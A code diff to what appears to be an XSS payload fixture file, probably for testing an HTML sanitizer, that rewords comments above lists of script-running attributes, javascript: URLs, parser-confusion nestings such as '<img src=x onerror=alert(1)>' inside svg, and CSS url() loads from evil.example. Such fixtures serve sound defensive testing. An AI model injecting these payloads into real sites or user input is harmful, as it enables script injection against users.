@@ -1,8 +1,10 @@
-// The same attack in all its spellings: each list is what one family varies, each entry a way of its own.
+// Attacks in all their spellings: each list varies one kind of attack, each entry in a way of its own.
 
 const ALERT = 'alert(1)';
 
-/** Attributes that run code, by what sets them off: loading, pointers, keys, forms, media, animation, the page itself. */
+/**
+ * Attributes that run code, by what triggers them: loading, pointers, keys, forms, media, animation, the page itself.
+ */
 const HANDLERS = [
   ...[
     'onload',
@@ -101,7 +103,7 @@ const HANDLERS = [
   ],
 ];
 
-/** A URL that runs code or loads what nobody asked for, as browsers have been made to read it. */
+/** URLs that run code or load unwanted content, as browsers have been tricked into reading them. */
 const ADDRESSES = [
   'javascript:alert(1)',
   'JAVASCRIPT:alert(1)',
@@ -201,7 +203,7 @@ const ACTING = [
   '<comment><img src="</comment><img src=x onerror=alert(1)>"></comment>',
 ];
 
-/** What a style may do: load, run in old browsers, cover the screen, read what stands beside it. */
+/** What a style may do: load, run in old browsers, cover the screen, read neighbouring content. */
 const STYLES = [
   'background:url(https://evil.example/x)',
   'background:url("javascript:alert(1)")',
@@ -219,7 +221,7 @@ const STYLES = [
   'filter:url(https://evil.example/x#x)',
 ];
 
-/** Nests in which one parser sees text where another sees elements. */
+/** Nestings in which one parser sees text and another sees elements. */
 const NESTS = [
   '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
   '<svg><title><img src=x onerror=alert(1)></title></svg>',
